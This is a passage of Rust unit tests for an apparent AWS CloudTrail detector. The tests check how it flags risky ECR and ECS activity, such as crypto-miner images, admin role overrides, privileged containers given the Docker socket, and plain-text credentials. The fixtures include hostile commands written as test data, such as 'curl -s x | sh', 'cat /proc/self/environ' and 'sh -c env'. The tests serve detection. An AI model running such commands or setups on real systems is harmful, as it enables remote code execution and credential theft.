        json!({"keyId": OTHER_KEY, "pendingWindowInDays": 7}),
        Value::Null,
    );
    let items = attention_of(&l, AttentionKind::EcrProtectionLowered);
    assert_eq!(
        titles(&items),
        [
            ("KMS key of repository web/gone scheduled for deletion", Severity::High, CI),
            ("KMS key of repository web/kept scheduled for deletion", Severity::High, CI),
        ]
    );
    let why = |name: &str| &items.iter().find(|a| a.title.contains(name)).unwrap().why;
    let kept = format!(
        " Its deletion was cancelled at 2026-03-01 10:00:20 UTC by {MARY} (CancelKeyDeletion): the key was kept, disabled until it is enabled."
    );
    assert!(why("web/kept").contains(&kept) && !why("web/kept").contains("never be read"), "{}", why("web/kept"));
    assert!(why("web/gone").contains("Once the key is deleted, they can never be read again."), "{}", why("web/gone"));
}

#[test]
fn ok_a_tag_moved_by_a_new_pusher_is_an_attention_item() {
    use crate::analysis::identity::{AttentionKind, Severity};
    // A push by a session of a role.
    let by_role = |l: &mut Log, at: i64, (role, session): (&str, &str), repo: &str, tag: &str, digest: &str| {
        l.put(at, &format!("arn:aws:sts::{ACCOUNT}:assumed-role/{role}/{session}"), repo, tag, digest, &[]);
        let who = &mut l.events.last_mut().unwrap()["userIdentity"];
        who["sessionContext"] = json!({"sessionIssuer": {"type": "Role", "arn": format!("arn:aws:iam::{ACCOUNT}:role/{role}"),
            "accountId": ACCOUNT, "userName": role}});
    };
    // A pipeline's role: every run a session of its own.
    let ci_run = |l: &mut Log, at: i64, session: &str, repo: &str, tag: &str, digest: &str| {
        by_role(l, at, ("ci-build-role", session), repo, tag, digest);
    };
    let mut l = Log::new();
    // The pipeline moves prod twice, then Mary moves it, and a task pulls it by tag: high.
    ci_run(&mut l, 0, "run-1", "web/api", "prod", "sha256:a1");
    ci_run(&mut l, 100, "run-2", "web/api", "prod", "sha256:a2");
    l.put(200, MARY, "web/api", "prod", "sha256:a3", &[]);
    l.get(300, TASKS, "web/api", json!({"imageTag": "prod"}));
    // The pipeline puts its image back: it pushed there first, so it is not new.
    ci_run(&mut l, 400, "run-7", "web/api", "prod", "sha256:a4");
    // Mary moves latest of web/ui and only she pulls it: medium.
    ci_run(&mut l, 0, "run-3", "web/ui", "latest", "sha256:u1");
    l.put(50, MARY, "web/ui", "latest", "sha256:u2", &[]);
    l.get(60, MARY, "web/ui", json!({"imageTag": "latest"}));
    // Another account's principal moves latest of web/cache: high.
    ci_run(&mut l, 0, "run-4", "web/cache", "latest", "sha256:c1");
    l.put(70, OTHER, "web/cache", "latest", "sha256:c2", &[]);
    // Mary's first push to web/worker is a tag of her own; she moves latest two days later: not new.
    ci_run(&mut l, 0, "run-5", "web/worker", "latest", "sha256:w1");
    l.put(10, MARY, "web/worker", "dev", "sha256:w2", &[]);
    l.put(2 * 86_400, MARY, "web/worker", "latest", "sha256:w3", &[]);
    // Mary pushes the image v1 already names again: no move.
    ci_run(&mut l, 0, "run-6", "web/db", "v1", "sha256:d1");
    l.put(30, MARY, "web/db", "v1", "sha256:d1", &[]);
    // Mary moves latest of web/site, and a service is deployed with it by tag: high.
    ci_run(&mut l, 0, "run-8", "web/site", "latest", "sha256:s1");
    l.put(80, MARY, "web/site", "latest", "sha256:s2", &[]);
    l.task_def(90, CI, ("site", 1), &image_uri("web/site", ":latest"));
    l.service(95, CI, ("UpdateService", "site"), "site:1", None);
    // Two people signed in through one Identity Center permission set are two pushers.
    let sso = "AWSReservedSSO_PowerUser_0123456789abcdef";
    by_role(&mut l, 0, (sso, "akua@example.com"), "web/docs", "latest", "sha256:o1");
    by_role(&mut l, 90, (sso, "bruno@example.com"), "web/docs", "latest", "sha256:o2");
    let items = attention_of(&l, AttentionKind::TagMovedByNewPusher);
    assert_eq!(
        titles(&items),
        [
            ("Tag latest of web/cache moved by a new pusher", Severity::High, OTHER),
            (
                "Tag latest of web/docs moved by a new pusher",
                Severity::Medium,
                "arn:aws:sts::111122223333:assumed-role/AWSReservedSSO_PowerUser_0123456789abcdef/bruno@example.com"
            ),
            ("Tag latest of web/site moved by a new pusher", Severity::High, MARY),
            ("Tag latest of web/ui moved by a new pusher", Severity::Medium, MARY),
            ("Tag prod of web/api moved by a new pusher", Severity::High, MARY),
        ]
    );
    let site = items.iter().find(|a| a.title.contains("web/site")).unwrap();
    let deployed =
        format!("ECS deployed them: service site of cluster prod (UpdateService at 2026-03-01 10:01:35 UTC by {CI}).");
    assert!(site.why.contains(&deployed), "{}", site.why);
    assert!(!items.iter().any(|a| a.why.contains("ECS deployed") && !a.title.contains("web/site")));
    let api = items.iter().find(|a| a.title.contains("web/api")).unwrap();
    for part in [
        "arn:aws:iam::111122223333:user/Mary_Major is new to repository web/api (111122223333, us-east-1)",
        "prod at 2026-03-01 10:03:20 UTC to sha256:a3 (it named sha256:a2, pushed by arn:aws:iam::111122223333:role/ci-build-role)",
        "It pushed from 203.0.113.12 with docker.",
        &format!("Others then pulled the images it pushed, 1 time: {TASKS} (1×)."),
    ] {
        assert!(api.why.contains(part), "{part:?} in {}", api.why);
    }
    let cache = items.iter().find(|a| a.title.contains("web/cache")).unwrap();
    assert!(cache.why.contains("It is of account 444455556666, not the registry's."), "{}", cache.why);
    let ui = items.iter().find(|a| a.title.contains("web/ui")).unwrap();
    assert!(ui.why.contains("No other principal pulled the images it pushed"), "{}", ui.why);
    // The item narrows to the repository, from the push to the pull.
    let f = api.narrow(&Filter::default());
    assert_eq!(f.list(Field::Repository).map(<[String]>::len), Some(1));
    let at = |s: i64| crate::model::time::parse_iso(&time(s));
    assert_eq!((f.from, f.to), (at(200), at(301)));
}

/// ECS names an image by its registry's host, a name with no host being Docker Hub's (the task
/// definition reference's `image` parameter); a family's new revision that runs an image from a
/// registry none of its earlier revisions used, outside the account's ECR, is an item.
#[test]
fn a_task_definition_that_runs_an_image_from_a_new_source_is_an_attention_item() {
    use crate::analysis::identity::{AttentionKind, Severity};
    let mut l = Log::new();
    let own = image_uri("web/app", ":latest");
    let sidecar = image_uri("web/proxy", ":v2");
    // web: its own images, then a Docker Hub image beside the proxy, deployed.
    l.task_def_of(0, CI, ("web", 1), &[&own, &sidecar]);
    l.service(10, CI, ("CreateService", "web"), "web:1", Some(2));
    l.task_def_of(100, MARY, ("web", 2), &["attacker/web:latest", &sidecar]);
    l.service(110, MARY, ("UpdateService", "web"), "web:2", None);
    // api: ECR Public from its first revision on, so its second is nothing new.
    l.task_def_of(0, CI, ("api", 1), &["public.ecr.aws/nginx/nginx:1.25", &own]);
    l.task_def_of(100, CI, ("api", 2), &["public.ecr.aws/nginx/nginx:1.27", &own]);
    // batch: first registered here at revision 5, with nothing before it to compare with.
    l.task_def_of(0, CI, ("batch", 5), &["ghcr.io/acme/batch:3"]);
    // Families created here (revision 1) and started: with a Docker Hub image, from another
    // account and from the account's pipeline; with the account's own image. (api and home,
    // created above with public images, were never started.)
    l.task_def_of(200, OTHER, ("xmr", 1), &["docker.io/miner/xmrig:latest"]);
    l.add(210, "ecs.amazonaws.com", "RunTask", OTHER, json!({"cluster": "prod", "taskDefinition": "xmr"}), Value::Null);
    l.task_def_of(200, CI, ("cache", 1), &["redis:7"]);
    l.service(210, CI, ("CreateService", "cache"), "cache:1", Some(1));
    l.task_def_of(200, CI, ("fresh", 1), &[&own]);
    l.service(210, CI, ("CreateService", "fresh"), "fresh:1", Some(1));
    // job: another account's ECR, registered, never started; and a task of another family.
    l.task_def_of(0, CI, ("job", 1), &[&own]);
    l.task_def_of(100, CI, ("job", 2), &["999988887777.dkr.ecr.us-east-1.amazonaws.com/tools/job:1"]);
    // same: the account's own ECR in another region.
    l.task_def_of(0, CI, ("same", 1), &[&own]);
    l.task_def_of(100, CI, ("same", 2), &[&format!("{ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com/web/app:latest")]);
    // home: from Docker Hub's nginx to the account's own build.
    l.task_def_of(0, CI, ("home", 1), &["nginx:1.25"]);
    l.task_def_of(100, CI, ("home", 2), &[&own]);
    let items = attention_of(&l, AttentionKind::ImageFromNewSource);
    assert_eq!(
        titles(&items),
        [
            ("New task definition cache runs an image from Docker Hub", Severity::Medium, CI),
            ("New task definition xmr runs an image from Docker Hub", Severity::High, OTHER),
            ("Task definition job runs an image from ECR of account 999988887777", Severity::Medium, CI),
            ("Task definition web runs an image from Docker Hub", Severity::High, MARY),
        ]
    );
    let xmr = items.iter().find(|a| a.who == OTHER).unwrap();
    let expected = "xmr:1 (111122223333, us-east-1), registered at 2026-03-01 10:03:20 UTC from 203.0.113.12 with docker, runs \
                    docker.io/miner/xmrig:latest (Docker Hub). It is the family's first revision: xmr was created then. \
                    It is of account 444455556666, not the task definition's. Started from it: a task on cluster prod";
    assert!(xmr.why.starts_with(expected), "{}", xmr.why);
    let web = items.iter().find(|a| a.who == MARY).unwrap();
    let why = &web.why;
    for part in [
        "web:2 (111122223333, us-east-1), registered at 2026-03-01 10:01:40 UTC from 203.0.113.12".to_owned(),
        "runs attacker/web:latest (Docker Hub). No earlier registration of web in these logs ran an image from there"
            .to_owned(),
        format!("the last, web:1 at 2026-03-01 10:00:00 UTC by {CI}, ran {own}, {sidecar}."),
        format!("Started from it: service web of cluster prod (UpdateService at 2026-03-01 10:01:50 UTC by {MARY})."),
    ] {
        assert!(why.contains(&part), "{part}\n{why}");
    }
    let job = items.iter().find(|a| a.who == CI).unwrap();
    assert!(job.why.contains("No service was deployed with it, and no task started from it"), "{}", job.why);
}

/// ECS's task role is the role a task's code acts with (`taskRoleArn`, "the short name or full
/// ARN of the IAM role that containers in this task can assume"); a family's revision that gives
/// one none of its earlier revisions gave is an item, saying what the role's sessions did.
#[test]
fn a_task_definition_given_a_new_role_is_an_attention_item() {
    use crate::analysis::identity::{AttentionKind, Severity};
    let mut l = Log::new();
    let own = image_uri("web/app", ":latest");
    let web_role = format!("arn:aws:iam::{ACCOUNT}:role/web-task");
    let admin = format!("arn:aws:iam::{ACCOUNT}:role/admin");
    // web: the same role twice, then an administrator's role, and a task started from it.
    l.task_def_as(0, CI, ("web", 1), &[&own], &web_role);
    l.task_def_as(50, CI, ("web", 2), &[&own], &web_role);
    l.task_def_as(100, MARY, ("web", 3), &[&own], &admin);
    l.add(
        110,
        "ecs.amazonaws.com",
        "RunTask",
        MARY,
        json!({"cluster": "prod", "taskDefinition": "web:3"}),
        Value::Null,
    );
    // The task's session of the role makes two calls, one a write.
    let session = json!({"type": "AssumedRole", "arn": format!("arn:aws:sts::{ACCOUNT}:assumed-role/admin/5f3c"),
        "accountId": ACCOUNT, "accessKeyId": "ASIAE2ETASKADMIN", "sessionContext": {"sessionIssuer": {"type": "Role",
        "arn": admin, "accountId": ACCOUNT, "userName": "admin"}}});
    for (at, source, name) in
        [(130, "iam.amazonaws.com", "CreateUser"), (120, "sts.amazonaws.com", "GetCallerIdentity")]
    {
        let e = l.add(at, source, name, CI, json!({}), Value::Null);
        e["userIdentity"] = session.clone();
        e["readOnly"] = json!(name.starts_with("Get"));
    }
    // job: no role, then a role by name, never started.
    l.task_def_as(0, CI, ("job", 1), &[&own], "");
    l.task_def_as(100, CI, ("job", 2), &[&own], "job-runner");
    // batch: its first registration here names a role, with nothing before it to compare with.
    l.task_def_as(0, CI, ("batch", 1), &[&own], &admin);
    // api: a role, then none.
    l.task_def_as(0, CI, ("api", 1), &[&own], &web_role);
    l.task_def_as(100, CI, ("api", 2), &[&own], "");
    let items = attention_of(&l, AttentionKind::TaskRoleNew);
    assert_eq!(
        titles(&items),
        [
            ("Task definition job given role job-runner", Severity::Medium, CI),
            ("Task definition web given role admin", Severity::High, MARY),
        ]
    );
    let web = items.iter().find(|a| a.who == MARY).unwrap();
    for part in [
        "web:3 (111122223333, us-east-1), registered at 2026-03-01 10:01:40 UTC from 203.0.113.12".to_owned(),
        format!("gives its tasks role {admin}, which no earlier registration of web in these logs gave"),
        format!("the last, web:2 at 2026-03-01 10:00:50 UTC by {CI}, gave {web_role}."),
        format!("Started from it: a task on cluster prod (RunTask at 2026-03-01 10:01:50 UTC by {MARY})."),
        "The role's sessions made 2 calls in the rows looked at (1 write), from 2026-03-01 10:02:00 UTC to \
         2026-03-01 10:02:10 UTC; first write: iam:CreateUser at 2026-03-01 10:02:10 UTC."
            .to_owned(),
    ] {
        assert!(web.why.contains(&part), "{part}\n{}", web.why);
    }
    let job = items.iter().find(|a| a.who == CI).unwrap();
    assert!(job.why.contains("gave no task role."), "{}", job.why);
    assert!(job.why.contains("The role's sessions made no call in the rows looked at."), "{}", job.why);
}

/// `RunTask`'s `overrides.taskRoleArn` ("the ARN of the role that containers in this task can
/// assume", in place of the task definition's) and `containerOverrides[].command` (in place of
/// the image's): a task started with a role its task definition does not give is an item.
#[test]
fn a_task_started_with_another_role_is_an_attention_item() {
    use crate::analysis::identity::{AttentionKind, Severity};
    let mut l = Log::new();
    let web_role = format!("arn:aws:iam::{ACCOUNT}:role/web-task");
    let admin = format!("arn:aws:iam::{ACCOUNT}:role/admin");
    l.task_def_as(0, CI, ("web", 1), &[&image_uri("web/app", ":latest")], &web_role);
    let run = |role: &str, command: &[&str], td: &str| {
        let mut overrides = json!({"containerOverrides": [{"name": "c0", "command": command}]});
        if !role.is_empty() {
            overrides["taskRoleArn"] = json!(role);
        }
        json!({"cluster": "prod", "taskDefinition": td, "overrides": overrides})
    };
    l.add(
        100,
        "ecs.amazonaws.com",
        "RunTask",
        MARY,
        run(&admin, &["sh", "-c", "curl -s x | sh"], "web:1"),
        Value::Null,
    );
    // The task definition's own role, and a command alone: no item.
    l.add(110, "ecs.amazonaws.com", "RunTask", CI, run(&web_role, &[], "web:1"), Value::Null);
    l.add(120, "ecs.amazonaws.com", "RunTask", CI, run("", &["./migrate"], "web:1"), Value::Null);
    // A task definition registered before the logs.
    l.add(130, "ecs.amazonaws.com", "RunTask", CI, run(&admin, &[], "old:4"), Value::Null);
    // Mary's again, twice: one item says how often.
    l.add(140, "ecs.amazonaws.com", "RunTask", MARY, run(&admin, &[], "web:1"), Value::Null);
    l.add(150, "ecs.amazonaws.com", "RunTask", MARY, run(&admin, &[], "web:1"), Value::Null);
    let items = attention_of(&l, AttentionKind::TaskRoleOverridden);
    assert_eq!(
        titles(&items),
        [
            ("Task of old started with role admin", Severity::High, CI),
            ("Task of web started with role admin", Severity::High, MARY)
        ]
    );
    let web = items.iter().find(|a| a.who == MARY).unwrap();
    let expected = format!(
        "RunTask of web:1 started at 2026-03-01 10:01:40 UTC on cluster prod from 203.0.113.12 with docker, with its task \
         role overridden: {admin} (its task definition gives {web_role}). It also ran, in place of the image's command: \
         sh -c curl -s x | sh. Then 2 more starts of web with that role, the last at 2026-03-01 10:02:30 UTC. The \
         role's sessions made no call in the rows looked at."
    );
    assert!(web.why.starts_with(&expected), "{}", web.why);
    assert_eq!((web.events, web.last - web.first), (3, 50_000));
    let old = items.iter().find(|a| a.who == CI).unwrap();
    assert!(old.why.contains("(its task definition's registration is not in these logs)."), "{}", old.why);
    // The ECS list says what each start overrode.
    let e = l.engine();
    let ContainerAnswer::Deployments(list) = ask(&e, Filter::default(), Ask::Deployments { offset: 0 }) else {
        panic!()
    };
    let mut said: Vec<(&str, &str)> = list
        .items
        .iter()
        .filter(|i| i.call == "RunTask")
        .map(|i| (i.role_override.as_str(), i.detail.as_str()))
        .collect();
    said.sort_unstable();
    assert_eq!(
        said,
        [
            ("", "command overridden: ./migrate"),
            (admin.as_str(), ""),
            (admin.as_str(), ""),
            (admin.as_str(), ""),
            (admin.as_str(), "command overridden: sh -c curl -s x | sh"),
            (web_role.as_str(), ""),
        ]
    );
}

/// `RunTask`'s `containerOverrides[].command` (in place of the image's) by a principal that had
/// not registered, deployed or started the family before is an item; the family's own registrant
/// or deployer running a migration is not, nor a start that also overrides the role (the role
/// item says it).
#[test]
fn a_task_started_with_its_command_replaced_by_someone_new_is_an_attention_item() {
    use crate::analysis::identity::{AttentionKind, Severity};
    let mut l = Log::new();
    let web_role = format!("arn:aws:iam::{ACCOUNT}:role/web-task");
    l.task_def_as(0, CI, ("web", 1), &[&image_uri("web/app", ":latest")], &web_role);
    l.task_def_as(0, CI, ("api", 1), &[&image_uri("web/api", ":latest")], "");
    l.service(10, MARY, ("CreateService", "api"), "api:1", Some(1));
    let run = |command: &[&str], td: &str, role: &str| {
        let mut overrides = json!({"containerOverrides": [{"name": "c0", "command": command}]});
        if !role.is_empty() {
            overrides["taskRoleArn"] = json!(role);
        }
        json!({"cluster": "prod", "taskDefinition": td, "overrides": overrides})
    };
    let ecs = "ecs.amazonaws.com";
    // The registrant's migration; Mary's shell twice; Mary on the family she deployed; another
    // account's; and a start that also overrides the role.
    l.add(100, ecs, "RunTask", CI, run(&["./migrate"], "web:1", ""), Value::Null);
    l.add(200, ecs, "RunTask", MARY, run(&["sh", "-c", "env"], "web:1", ""), Value::Null);
    l.add(210, ecs, "RunTask", MARY, run(&["sh", "-c", "env"], "web:1", ""), Value::Null);
    l.add(220, ecs, "RunTask", MARY, run(&["./seed"], "api:1", ""), Value::Null);
    l.add(300, ecs, "RunTask", OTHER, run(&["id"], "web:1", ""), Value::Null);
    let admin = format!("arn:aws:iam::{ACCOUNT}:role/admin");
    l.add(400, ecs, "RunTask", TASKS, run(&["id"], "web:1", &admin), Value::Null);
    let items = attention_of(&l, AttentionKind::TaskCommandReplaced);
    assert_eq!(
        titles(&items),
        [
            ("Task of web started with its command replaced", Severity::High, OTHER),
            ("Task of web started with its command replaced", Severity::Medium, MARY),
        ]
    );
    let mary = items.iter().find(|a| a.who == MARY).unwrap();
    let expected = format!(
        "RunTask of web:1 started at 2026-03-01 10:03:20 UTC on cluster prod from 203.0.113.12 with docker ran, in \
         place of the image's command: sh -c env. {MARY} had not registered, deployed or started web before in these \
         logs. Then 1 more start of web with a command of theirs, the last at 2026-03-01 10:03:30 UTC. The task runs \
         it with its definition's task role {web_role}"
    );
    assert!(mary.why.starts_with(&expected), "{}", mary.why);
    assert_eq!(mary.events, 2);
    let other = items.iter().find(|a| a.who == OTHER).unwrap();
    assert!(other.why.contains("It is of account 444455556666, not the task's."), "{}", other.why);
}

/// `RunTask`'s `containerOverrides[].environment` (name, value pairs, as the ECS API reference's
/// `ContainerOverride` writes them) that give a container credentials: one item per principal and
/// family, high for an AWS secret key, medium for an application's; a variable whose name says no
/// secret, or whose value is empty, is none. The ECS list says what each start gave.
#[test]
fn a_task_started_with_credentials_in_its_environment_is_an_attention_item() {
    use crate::analysis::identity::{AttentionKind, Severity};
    let mut l = Log::new();
    l.task_def(0, CI, ("web", 1), &image_uri("web/app", ":latest"));
    let run = |env: &[(&str, &str)]| {
        let env: Vec<Value> = env.iter().map(|(n, v)| json!({"name": n, "value": v})).collect();
        json!({"cluster": "prod", "taskDefinition": "web:1", "overrides": {"containerOverrides": [{"name": "c0", "environment": env}]}})
    };
    let ecs = "ecs.amazonaws.com";
    // Mary passes a database password twice, then an empty one; CI a key and its secret; the
    // contractor only a log level.
    l.add(100, ecs, "RunTask", MARY, run(&[("LOG_LEVEL", "debug"), ("DB_PASSWORD", "hunter2")]), Value::Null);
    l.add(160, ecs, "RunTask", MARY, run(&[("db_password", "hunter3")]), Value::Null);
    l.add(170, ecs, "RunTask", MARY, run(&[("DB_PASSWORD", " ")]), Value::Null);
    let key = [("AWS_ACCESS_KEY_ID", "AKIAIOSFODNN7EXAMPLE"), ("AWS_SECRET_ACCESS_KEY", "wJalrXUtnFEMI/K7MDENG")];
    l.add(200, ecs, "StartTask", CI, run(&key), Value::Null);
    l.add(300, ecs, "RunTask", OTHER, run(&[("LOG_LEVEL", "trace")]), Value::Null);
    let items = attention_of(&l, AttentionKind::TaskStartCredentials);
    assert_eq!(
        titles(&items),
        [
            ("Task of web started with credentials", Severity::High, CI),
            ("Task of web started with credentials", Severity::Medium, MARY),
        ]
    );
    let mary = items.iter().find(|a| a.who == MARY).unwrap();
    let expected = "RunTask of web:1 started at 2026-03-01 10:01:40 UTC on cluster prod from 203.0.113.12 with docker \
         gave its containers credentials in plain environment variables: DB_PASSWORD. Then 1 more start of web by them \
         gave credentials so, the last at 2026-03-01 10:02:40 UTC. A task start's overrides are written into \
         CloudTrail";
    assert!(mary.why.starts_with(expected), "{}", mary.why);
    assert_eq!((mary.events, mary.last - mary.first), (2, 60_000));
    let ci = items.iter().find(|a| a.who == CI).unwrap();
    assert!(ci.why.contains("AWS_ACCESS_KEY_ID (AKIAIOSFODNN7EXAMPLE), AWS_SECRET_ACCESS_KEY."), "{}", ci.why);
    assert!(!ci.why.contains("wJalrXUtnFEMI"), "a secret's value is never said");
    // The ECS list says what each start gave.
    let e = l.engine();
    let ContainerAnswer::Deployments(list) = ask(&e, Filter::default(), Ask::Deployments { offset: 0 }) else {
        panic!()
    };
    let mut said: Vec<&str> =
        list.items.iter().filter(|i| i.call != "RegisterTaskDefinition").map(|i| i.detail.as_str()).collect();
    said.sort_unstable();
    assert_eq!(
        said,
        [
            "",
            "",
            "credentials given in its environment: AWS_ACCESS_KEY_ID (AKIAIOSFODNN7EXAMPLE), AWS_SECRET_ACCESS_KEY",
            "credentials given in its environment: DB_PASSWORD",
            "credentials given in its environment: DB_PASSWORD",
        ]
    );
}

/// ECS Exec (`ExecuteCommand`: cluster, task, container, command, interactive, as the ECS API
/// reference's request names them) that went through: one item per principal and cluster.
#[test]
fn commands_run_in_running_containers_are_an_attention_item() {
    use crate::analysis::identity::{AttentionKind, Severity};
    let mut l = Log::new();
    let exec = |cluster: &str, task: &str, command: &str| json!({"cluster": cluster, "task": task, "container": "app", "command": command, "interactive": true});
    let answer =
        json!({"session": {"sessionId": "ecs-execute-command-0a1b", "tokenValue": "HIDDEN_DUE_TO_SECURITY_REASONS"}});
    l.add(0, "ecs.amazonaws.com", "ExecuteCommand", MARY, exec("prod", "a1b2", "/bin/sh"), answer.clone());
    l.add(
        60,
        "ecs.amazonaws.com",
        "ExecuteCommand",
        MARY,
        exec("prod", "c3d4", "cat /proc/self/environ"),
        answer.clone(),
    );
    l.add(90, "ecs.amazonaws.com", "ExecuteCommand", MARY, exec("staging", "e5f6", "/bin/bash"), answer.clone());
    l.add(120, "ecs.amazonaws.com", "ExecuteCommand", OTHER, exec("prod", "a1b2", "/bin/sh"), answer);
    let e = l.add(150, "ecs.amazonaws.com", "ExecuteCommand", CI, exec("prod", "a1b2", "/bin/sh"), Value::Null);
    e["errorCode"] = json!("AccessDeniedException");
    let items = attention_of(&l, AttentionKind::ContainerExec);
    assert_eq!(
        titles(&items),
        [
            ("Commands run in containers of cluster prod", Severity::High, OTHER),
            ("Commands run in containers of cluster prod", Severity::Medium, MARY),
            ("Commands run in containers of cluster staging", Severity::Medium, MARY),
        ]
    );
    let prod = items.iter().find(|a| a.who == MARY && a.title.ends_with("prod")).unwrap();
    let expected = "2 commands run in running containers of cluster prod (111122223333, us-east-1) with ECS Exec: /bin/sh \
                    in task a1b2 at 2026-03-01 10:00:00 UTC; cat /proc/self/environ in task c3d4 at 2026-03-01 10:01:00 \
                    UTC. From 203.0.113.12 with docker.";
    assert!(prod.why.starts_with(expected), "{}", prod.why);
    let other = items.iter().find(|a| a.who == OTHER).unwrap();
    assert!(other.why.contains("It is of account 444455556666, not the cluster's."), "{}", other.why);
}

#[test]
fn an_image_an_ecs_service_runs_expired_by_a_new_policy_is_in_use() {
    use crate::analysis::identity::{AttentionKind, Severity};
    const DAY: i64 = 86_400;
    let mut l = Log::new();
    // Each repository: the image a service was deployed with ten days ago by tag, and pulled then;
    // the tag then moved on, so a policy that expires untagged images takes it.
    for (repo, name) in [("web/run", "run"), ("web/gone", "gone"), ("web/idle", "idle"), ("web/next", "next")] {
        l.put(-10 * DAY, CI, repo, "latest", &format!("sha256:{name}-1"), &[]);
        l.task_def(-10 * DAY + 10, CI, (name, 1), &image_uri(repo, ":latest"));
        l.service(-10 * DAY + 20, CI, ("CreateService", name), &format!("{name}:1"), Some(2));
        l.get(-10 * DAY + 30, TASKS, repo, json!({"imageTag": "latest"}));
        l.put(-DAY, CI, repo, "latest", &format!("sha256:{name}-2"), &[]);
        set_lifecycle(&mut l, 0, MARY, repo, "untagged");
    }
    // One service is deleted, one scaled to no task, one deployed anew with the new image.
    l.service(100, CI, ("DeleteService", "gone"), "", None);
    l.service(100, CI, ("UpdateService", "idle"), "", Some(0));
    l.task_def(100, CI, ("next", 2), &image_uri("web/next", "@sha256:next-2"));
    l.service(110, CI, ("UpdateService", "next"), "next:2", None);
    // A scaling of the running one names no task definition: it still runs its deployment.
    l.service(120, CI, ("UpdateService", "run"), "", Some(4));
    for (repo, name) in [("web/run", "run"), ("web/gone", "gone"), ("web/idle", "idle"), ("web/next", "next")] {
        l.lifecycle(3600, "PolicyExecutionEvent", repo, &format!("pol-{name}"), &[(&format!("sha256:{name}-1"), "")]);
    }
    let items = attention_of(&l, AttentionKind::LifecycleExpired);
    assert_eq!(titles(&items), [("New lifecycle policy of web/run expired 1 image in use", Severity::High, MARY)]);
    let why = &items[0].why;
    let run = format!(
        "sha256:run-1 (untagged), expired at 2026-03-01 11:00:00 UTC, pushed by {CI} at 2026-02-19 10:00:00 UTC, \
         not pulled in the week before, run by service run of cluster prod (CreateService at 2026-02-19 10:00:20 UTC by {CI})"
    );
    assert!(why.contains(&run), "{why}");
    assert!(why.contains("(0 tagged, 1 in use: pulled in the week before or run by an ECS service)"), "{why}");
    // The runs list says which service ran each image.
    let e = l.engine();
    let ContainerAnswer::Lifecycle(runs) = ask(&e, Filter::default(), Ask::Lifecycle { offset: 0 }) else { panic!() };
    let mut run_by: Vec<(&str, &str, Vec<String>)> = runs
        .items
        .iter()
        .flat_map(|r| r.images.iter().map(move |i| (r.repo.name.as_str(), i.digest.as_str(), i.run_by.clone())))
        .collect();
    run_by.sort();
    let none = Vec::new;
    assert_eq!(
        run_by,
        [
            ("web/gone", "sha256:gone-1", none()),
            ("web/idle", "sha256:idle-1", none()),
            ("web/next", "sha256:next-1", none()),
            ("web/run", "sha256:run-1", vec!["run (cluster prod)".to_owned()]),
        ]
    );
}

/// A `RegisterTaskDefinition` of family:revision, one container running an image of web/app,
/// with `container` and `task` merged into its container definition and its request.
fn task_def_with(l: &mut Log, at: i64, who: &str, (family, revision): (&str, u32), container: Value, task: Value) {
    let mut c = json!({"name": "app", "image": image_uri("web/app", ":latest")});
    let mut req = json!({"family": family});
    for (into, from) in [(&mut c, container), (&mut req, task)] {
        if let (Some(into), Value::Object(from)) = (into.as_object_mut(), from) {
            into.extend(from);
        }
    }
    req["containerDefinitions"] = json!([c]);
    l.add(
        at,
        "ecs.amazonaws.com",
        "RegisterTaskDefinition",
        who,
        req,
        json!({"taskDefinition": {"family": family, "revision": revision}}),
    );
}

/// A task definition whose containers get the instance (ECS's `privileged`, `pidMode`/`ipcMode`
/// `host`, `linuxParameters.capabilities.add`, `volumes[].host.sourcePath` mounted: Security Hub's
/// ECS.3 and ECS.4 controls, and `linuxParameters.devices` of the instance's disks) is an item when
/// its family's registration before it did not give that much; the host's network alone is none,
/// but with a container that runs as root (ECS.1) it is.
#[test]
fn a_task_definition_giving_containers_the_host_is_an_attention_item() {
    use crate::analysis::identity::{AttentionKind, Severity};
    let mut l = Log::new();
    let sock = json!({"volumes": [{"name": "sock", "host": {"sourcePath": "/var/run/docker.sock"}}]});
    let mounts = json!({"privileged": true, "mountPoints": [{"sourceVolume": "sock", "containerPath": "/s"}]});
    // web: two plain revisions, then Mary's privileged one with the Docker socket, deployed.
    task_def_with(&mut l, 0, CI, ("web", 1), json!({}), json!({}));
    task_def_with(&mut l, 10, CI, ("web", 2), json!({"privileged": false}), json!({"networkMode": "awsvpc"}));
    task_def_with(&mut l, 100, MARY, ("web", 3), mounts.clone(), sock.clone());
    l.service(110, MARY, ("CreateService", "web"), "web:3", Some(2));
    // agent: first seen at revision 4, privileged with the host's processes, never started;
    // revision 5 gives the same.
    let pid = json!({"pidMode": "host"});
    task_def_with(&mut l, 0, CI, ("agent", 4), json!({"privileged": true}), pid.clone());
    task_def_with(&mut l, 50, CI, ("agent", 5), json!({"privileged": true}), pid);
    // miner: created with SYS_ADMIN and started by Mary.
    let cap = json!({"linuxParameters": {"capabilities": {"add": ["SYS_ADMIN"]}}});
    task_def_with(&mut l, 200, MARY, ("miner", 1), cap, json!({}));
    l.add(
        210,
        "ecs.amazonaws.com",
        "RunTask",
        MARY,
        json!({"cluster": "prod", "taskDefinition": "miner:1"}),
        Value::Null,
    );
    // net: the host's network only, as user nginx; then a socket volume no container mounts;
    // then the host's network with no user given: root.
    let host_net = json!({"networkMode": "host"});
    task_def_with(&mut l, 0, CI, ("net", 1), json!({"user": "nginx"}), host_net.clone());
    task_def_with(&mut l, 60, CI, ("net", 2), json!({}), sock);
    task_def_with(&mut l, 500, CI, ("net", 3), json!({}), host_net);
    // disk: created with the instance's disk as a device.
    let disk = json!({"linuxParameters": {"devices": [{"hostPath": "/dev/nvme1n1", "containerPath": "/dev/d"}]}});
    task_def_with(&mut l, 600, CI, ("disk", 1), disk, json!({}));
    // ext: from another account, sharing the host's IPC.
    task_def_with(&mut l, 300, OTHER, ("ext", 2), json!({}), json!({"ipcMode": "host"}));
    // web2: the socket mounted, then more: privileged too.
    let mounted = json!({"volumes": [{"name": "sock", "host": {"sourcePath": "/run/containerd/containerd.sock"}}]});
    let socket_only = json!({"mountPoints": [{"sourceVolume": "sock", "containerPath": "/s"}]});
    task_def_with(&mut l, 0, CI, ("web2", 7), socket_only, mounted.clone());
    task_def_with(&mut l, 400, CI, ("web2", 8), mounts, mounted);
    let items = attention_of(&l, AttentionKind::TaskDefHostAccess);
    assert_eq!(
        titles(&items),
        [
            ("New task definition disk gives its containers the host", Severity::Medium, CI),
            ("New task definition miner gives its containers the host", Severity::High, MARY),
            ("Task definition agent gives its containers the host", Severity::Medium, CI),
